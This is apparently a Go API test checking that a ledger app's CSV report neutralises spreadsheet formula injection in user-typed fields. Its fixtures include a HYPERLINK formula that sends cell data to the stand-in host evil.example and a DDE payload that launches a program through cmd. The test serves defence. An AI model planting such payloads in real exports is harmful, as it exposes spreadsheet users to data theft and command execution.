package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/finledger/finledger/internal/testkit/apitest"
)

// Text a member typed never becomes a live formula in the CSV report: every prefix a
// spreadsheet runs (=, +, -, @) is neutralised in concepts, descriptions, reference
// numbers and the names of wallets and categories, while amounts stay numbers.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	env := apitest.Start(t)
	f := newLedger(t, env, "alice")
	wallet := f.c.Post("/api/wallets", map[string]any{"name": "@SUM(A1:A9)"}).Expect(t, http.StatusOK).Object("wallet")["id"].(string)
	category := f.c.Post("/api/categories", map[string]any{"name": "-1+cmd|' /C calc'!A0"}).Expect(t, http.StatusOK).Object("category")["id"].(string)
	concepts := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@A1", "-12.50"}
	for i, concept := range concepts {
		f.c.Post("/api/transactions", map[string]any{"type": "expense", "amount": 12.5, "date": "2026-03-0" + string(rune('1'+i)),
			"walletId": wallet, "categoryId": category, "concept": concept, "description": "=cmd", "referenceNumber": "+52"}).
			Expect(t, http.StatusCreated)
	}
	raw := f.c.Get("/api/reports?from=2026-03-01&to=2026-03-31&format=csv").Expect(t, http.StatusOK).Raw
	if !bytes.Contains(raw, []byte(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`)) {
		t.Fatalf("the formula is not quoted after a single quote:\n%s", raw)
	}
	records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(concepts)+1 {
		t.Fatalf("csv %q", records)
	}
	for i, line := range records[1:] {
		want := "'" + concepts[i]
		if concepts[i] == "-12.50" {
			want = concepts[i] // a number, though typed as a concept
		}
		got := map[string]string{"amount": line[2], "concept": line[5], "description": line[6], "wallet": line[7], "category": line[8],
			"reference_number": line[10]}
		for field, want := range map[string]string{"amount": "12.5", "concept": want, "description": "'=cmd", "wallet": "'@SUM(A1:A9)",
			"category": "'-1+cmd|' /C calc'!A0", "reference_number": "+52"} {
			if got[field] != want {
				t.Errorf("line %d: %s %q, want %q", i+1, field, got[field], want)
			}
		}
		for _, cell := range line {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "+52" && cell != "-12.50" {
				t.Errorf("line %d: cell %q starts a formula", i+1, cell)
			}
		}
	}
}
